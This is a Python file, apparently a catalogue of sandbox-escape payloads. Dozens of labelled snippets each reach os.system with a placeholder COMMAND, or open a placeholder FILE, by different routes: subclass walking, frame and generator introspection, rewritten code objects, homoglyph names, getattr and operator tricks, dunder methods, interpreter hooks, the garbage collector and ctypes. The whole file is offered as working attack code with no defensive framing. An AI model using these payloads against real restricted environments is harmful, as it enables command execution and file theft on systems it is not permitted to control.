# From any object to the module that reaches the host: subclasses, frames, code objects, format strings, hooks.

# == subclasses to os
[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system'](COMMAND)

# == subclasses to the real builtins
[c for c in ''.__class__.__mro__[-1].__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](FILE).read()

# == subclasses by an index found in a string
names = [str(c) for c in object.__subclasses__()]
index = next(i for i, name in enumerate(names) if 'os._wrap_close' in name)
object.__subclasses__()[index].close.__globals__['popen'](COMMAND).read()

# == any function's globals
import random
random.Random.seed.__globals__['_os'].system(COMMAND)

# == any module that holds sys
import warnings
warnings.sys.modules['os'].system(COMMAND)

# == the frame below
import sys
sys._getframe().f_builtins['__import__']('os').system(COMMAND)

# == frames upwards
import sys
frame = sys._getframe()
while frame.f_back: frame = frame.f_back
frame.f_globals['__builtins__'] and frame.f_builtins['open'](FILE).read()

# == the frame of an exception
try:
    1 / 0
except Exception as error:
    frame = error.__traceback__.tb_frame.f_back
    builtins = frame.f_globals['__builtins__']
(builtins['__import__'] if isinstance(builtins, dict) else builtins.__import__)('os').system(COMMAND)

# == the frame of a generator
g = (g.gi_frame.f_back.f_back.f_builtins for _ in [1])
[next(g)][0]['open'](FILE).read()

# == the builtins of a generator
g = (x for x in [1])
g.gi_frame.f_builtins['__import__']('os').system(COMMAND)

# == the frame of a coroutine
async def f(): pass
c = f()
c.cr_frame.f_builtins['open'](FILE).read()

# == the frame of an asynchronous generator
async def f(): yield
f().ag_frame.f_builtins['open'](FILE).read()

# == the locals of a caller
import inspect
[info.frame.f_builtins['__import__']('os').system(COMMAND) for info in inspect.stack()[-1:]]

# == a tracing function
import sys
found = []
def trace(frame, event, arg):
    found.append(frame.f_builtins)
sys.settrace(trace)
(lambda: 0)()
sys.settrace(None)
found[0]['__import__']('os').system(COMMAND)

# == a profiling function
import sys
found = []
sys.setprofile(lambda frame, event, arg: found.append(frame.f_builtins))
len('')
sys.setprofile(None)
found[0]['open'](FILE).read()

# == a function's builtins
(lambda: 0).__builtins__['__import__']('os').system(COMMAND)

# == a function of other globals
import builtins, types
f = lambda: __import__('os').system(COMMAND)
types.FunctionType(f.__code__, {'COMMAND': COMMAND, '__builtins__': builtins})()

# == exec with other globals
exec('__import__("os").system(COMMAND)', {'COMMAND': COMMAND})

# == eval of a compiled text
eval(compile('__import__("os").system(COMMAND)', 'x', 'eval'))

# == a syntax tree
import ast
tree = ast.Expression(ast.Call(ast.Name('open', ast.Load()), [ast.Constant(FILE)], []))
eval(compile(ast.fix_missing_locations(tree), 'x', 'eval')).read()

# == a code object with other names
f = lambda: len(FILE)
f.__code__ = f.__code__.replace(co_names=tuple('open' if name == 'len' else name for name in f.__code__.co_names))
f().read()

# == a code object of other constants
import os
def f(): return os.system('true')
f.__code__ = f.__code__.replace(co_consts=tuple(COMMAND if c == 'true' else c for c in f.__code__.co_consts))
f()

# == marshalled code
import marshal
exec(marshal.loads(marshal.dumps(compile('__import__("os").system(COMMAND)', 'x', 'exec'))))

# == a name put together
getattr(__import__('o' + 's'), ''.join(map(chr, [115, 121, 115, 116, 101, 109])))(COMMAND)

# == names written in other letters
import os
os.ｓｙｓｔｅｍ(COMMAND)

# == getattr by map
import warnings
list(map(getattr, [warnings], ['sys']))[0].modules['os'].system(COMMAND)

# == getattr by partial
import functools, warnings
list(filter(functools.partial(getattr, warnings), ['sys'])) and functools.reduce(getattr, ['sys'], warnings).modules['os'].system(COMMAND)

# == methodcaller
import operator, os
operator.methodcaller('system', COMMAND)(os)

# == attrgetter through globals
import operator, random
operator.attrgetter('seed.__globals__')(random.Random)['_os'].system(COMMAND)

# == vars
import logging
vars(logging)['os'].system(COMMAND)

# == object.__getattribute__
import logging
object.__getattribute__(logging, 'os').system(COMMAND)

# == the object of an attribute error
import logging, os
try:
    os.no_such_name
except AttributeError as error:
    error.obj.system(COMMAND)

# == the collector's objects
import gc
[m for m in gc.get_objects() if type(m).__name__ == 'module' and m.__name__ == 'os'][0].system(COMMAND)

# == the referrers of an object
import gc, os
function = os.system
[found['popen'](COMMAND).read() for found in gc.get_referrers(function) if isinstance(found, dict) and 'popen' in found][:1]

# == a decorator
import os
@os.system
@(lambda f: COMMAND)
def f(): pass

# == a class decorated by exec
@exec
@(lambda c: '__import__("os").system(COMMAND)')
class A: pass

# == a context manager
import os
class A:
    __enter__ = lambda self: os.system(COMMAND)
    __exit__ = lambda *args: None
with A(): pass

# == an augmented assignment
import os
class A:
    def __iadd__(self, other): return os.system(other)
a = A()
a += COMMAND

# == an operator that is a function
import os
class A:
    __class_getitem__ = os.system
A[COMMAND]

# == a metaclass
import os
class M(type):
    __getattr__ = lambda cls, name: os.system(COMMAND)
class A(metaclass=M): pass
A.x

# == a comparison
import os
class A:
    __eq__ = lambda self, other: os.system(COMMAND)
[A()].index(0)

# == a pattern
import os
class A:
    __match_args__ = ('x',)
    x = property(lambda self: os.system(COMMAND))
match A():
    case A(x): pass

# == a finaliser
import os
class A:
    def __del__(self): os.system(COMMAND)
A()

# == a weak reference's callback
import os, weakref
class A: pass
a = A()
weakref.finalize(a, os.system, COMMAND)
del a

# == annotations that are evaluated
import typing
class A:
    x: '__import__("os").system(COMMAND) or int'
typing.get_type_hints(A, globals())

# == a breakpoint's hook
import os, sys
sys.breakpointhook = lambda: os.system(COMMAND)
sys.modules['builtins'].breakpoint()

# == a display hook
import os, sys
sys.displayhook = lambda value: os.system(COMMAND)
exec(compile('1', 'x', 'single'))

# == an exception hook
import os, sys
sys.excepthook = lambda *args: os.system(COMMAND)
sys.excepthook(None, None, None)

# == an unraisable exception's hook
import os, sys
sys.unraisablehook = lambda args: os.system(COMMAND)
class A:
    def __del__(self): 1 / 0
A()

# == an audit hook
import os, sys
done = []
def hook(event, args):
    if event == 'compile' and not done:
        done.append(1)
        os.system(COMMAND)
sys.addaudithook(hook)
compile('1', 'x', 'eval')

# == a thread
import os, threading
t = threading.Thread(target=os.system, args=(COMMAND,))
t.start()
t.join()

# == a bare thread
import _thread, os, time
_thread.start_new_thread(os.system, (COMMAND,))
time.sleep(0.3)

# == an interpreter inside
import code
code.InteractiveInterpreter({'COMMAND': COMMAND}).runsource('import os; os.system(COMMAND)')

# == the timer of statements
import timeit
timeit.timeit('os.system(COMMAND)', 'import os', number=1, globals={'COMMAND': COMMAND})

# == a profiler
import cProfile
cProfile.runctx('__import__("os").system(COMMAND)', {'COMMAND': COMMAND}, {})

# == the debugger
import bdb
class D(bdb.Bdb):
    def user_line(self, frame): frame.f_builtins['__import__']('os').system(COMMAND)
D().run('x = 1', {})

# == memory read through ctypes
import ctypes, os
p = ctypes.create_string_buffer(FILE.encode())
libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(1000)
libc.read(libc.open(p, 0), buffer, 1000)
buffer.value
